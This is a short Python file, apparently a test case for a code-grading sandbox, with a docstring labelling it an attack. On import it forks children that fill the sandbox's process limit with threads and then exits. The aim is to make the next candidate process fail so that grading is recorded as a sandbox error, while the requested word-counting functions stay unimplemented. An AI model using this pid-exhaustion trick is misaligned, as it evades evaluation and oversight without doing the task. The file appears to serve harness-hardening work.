"""Attack: leave no process slot for the next candidate process, then die.

At import (in the candidate process), a few children fill the sandbox's pids limit with
threads and keep grabbing any slot that frees up; then this process exits. The tests'
process asks PID 1 for a new candidate process, whose start (a fork in PID 1) fails for
want of a pid. If PID 1 let that failure end the run, the grading would be reported as the
sandbox's error (status "error", every result thrown away) instead of this submission's.
"""

import os
import threading
import time


def _hold():
    time.sleep(10**6)


def _fill():
    while True:
        try:
            threading.Thread(target=_hold, daemon=True).start()
        except RuntimeError:
            time.sleep(0.001)


for _ in range(4):
    if os.fork() == 0:
        os.closerange(3, 1 << 16)  # not the link: the tests' process must see us die
        try:
            _fill()
        finally:
            os._exit(0)

time.sleep(2)  # let them take every slot
os._exit(1)


def count_words(text):
    raise NotImplementedError


def top_words(text, n):
    raise NotImplementedError
